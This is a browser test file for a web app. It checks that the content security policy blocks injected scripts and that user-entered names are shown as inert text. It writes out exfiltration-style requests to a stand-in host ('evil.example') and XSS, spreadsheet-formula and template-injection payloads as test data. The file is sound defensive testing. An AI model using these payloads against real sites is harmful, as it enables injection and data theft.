// What a script that got in somehow would try: the browser refuses it, and says so. Every other story checks that the app
// itself does nothing of the kind (tests/_support/story.ts).
import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { removeProfile, startPhoneBrowser } from '#tests/_support/chromium.ts';
import { signInAtDesk } from '#tests/_support/desk-page.ts';
import { expect, test } from '#tests/_support/story.ts';

test('an injected script finds every way closed', async ({ town }) => {
  const profile = mkdtempSync(join(tmpdir(), 'streekbalie-policy-'));
  const browser = await startPhoneBrowser({ profile, origin: town.server.url });
  const { page } = browser;
  await page.goto(`${town.server.url}/scan`);
  await expect(page.locator('#svelte-announcer')).toBeAttached();
  // The one style that stands in a tag is let through: what is read aloud stays out of sight.
  await expect(page.locator('#svelte-announcer')).toHaveCSS('position', 'absolute');

  const outcomes = await page.evaluate(async () => {
    const tried: Record<string, string> = {};
    const attempt = async (name: string, act: () => unknown): Promise<void> => {
      try {
        tried[name] = String(await act());
      } catch (error) {
        tried[name] = error instanceof Error ? error.name : 'failed';
      }
    };
    const loads = (element: HTMLElement): Promise<string> =>
      new Promise((resolve) => {
        element.onload = () => resolve('loaded');
        element.onerror = () => resolve('refused');
        document.body.append(element);
      });
    // What the test tool starts itself may use eval; what comes after a turn is a script of the page.
    await new Promise((resolve) => setTimeout(resolve));
    await attempt('markup', () => (document.body.innerHTML = '<b>text</b>'));
    await attempt('eval', () => (0, eval)('1'));
    await attempt('function', () => new Function('return 1')());
    await attempt('policy', () =>
      (
        globalThis as unknown as { trustedTypes: { createPolicy(name: string, rules: object): object } }
      ).trustedTypes.createPolicy('mine', {}),
    );
    await attempt('worker', () => new Worker('/_app/immutable/x.js'));
    await attempt('service worker', () => navigator.serviceWorker.register('/other.js'));
    await attempt('inline script', () => {
      const script = document.createElement('script');
      script.append('globalThis.ran = true');
      document.body.append(script);
      return 'ran' in globalThis;
    });
    await attempt('elsewhere', () => fetch('https://evil.example/?data=1'));
    await attempt('picture elsewhere', () =>
      loads(Object.assign(new Image(), { src: 'https://evil.example/?data=1' })),
    );
    await attempt('style', () => {
      const style = document.createElement('style');
      style.append('body { outline: 7px solid }');
      document.head.append(style);
      return getComputedStyle(document.body).outlineWidth === '7px';
    });
    await attempt('style in a tag', () => {
      document.body.setAttribute('style', 'outline: 7px solid');
      return getComputedStyle(document.body).outlineWidth === '7px';
    });
    return tried;
  });
  expect(outcomes).toEqual({
    markup: 'TypeError',
    eval: 'EvalError',
    function: 'EvalError',
    policy: 'TypeError',
    worker: 'TypeError',
    'service worker': 'TypeError',
    'inline script': 'false',
    elsewhere: 'TypeError',
    'picture elsewhere': 'refused',
    style: 'false',
    'style in a tag': 'false',
  });
  // Some of it would have failed anyway, for want of such a file or such a place: the policy itself says that it refused.
  for (const [words, times] of [
    ['connect-src', 1],
    ['img-src', 1],
    ["'TrustedScriptURL'", 2],
    ["'TrustedHTML'", 1],
    ['style-src', 2],
  ] as const)
    await expect
      .poll(() => browser.violations.filter((text) => text.includes(words)).length, { message: words })
      .toBeGreaterThanOrEqual(times);
  expect(browser.violations.length).toBeGreaterThan(8);
  await browser.close();
  removeProfile(profile);
});

test('a name that is code elsewhere is a name here', async ({ town, newPhone }) => {
  const { page } = await newPhone();
  await signInAtDesk(page, town.server.url, 'bib');
  const names = [
    '<img src=x onerror="document.title=1">',
    '=HYPERLINK("https://evil.example")',
    '{{7*7}}${7*7}',
  ];
  const { organisationId } = town.activity;
  for (const title of names)
    expect(
      await page.evaluate(
        async (body) =>
          (
            await fetch('/api/activities', {
              method: 'POST',
              headers: { 'content-type': 'application/json' },
              body: JSON.stringify(body),
            })
          ).status,
        {
          organisationId,
          title,
          place: title,
          points: 1,
          limit: null,
          marginBeforeMin: null,
          marginAfterMin: null,
          occurrences: [{ startsAt: Date.now(), endsAt: Date.now() + 3_600_000 }],
          version: 0,
        },
      ),
    ).toBe(201);
  await page.goto(`${town.server.url}/balie/activiteiten`);
  for (const name of names) await expect(page.getByText(name).first()).toBeVisible();
  await expect(page.locator('main img')).toHaveCount(0);
  await expect(page).not.toHaveTitle('1');
});
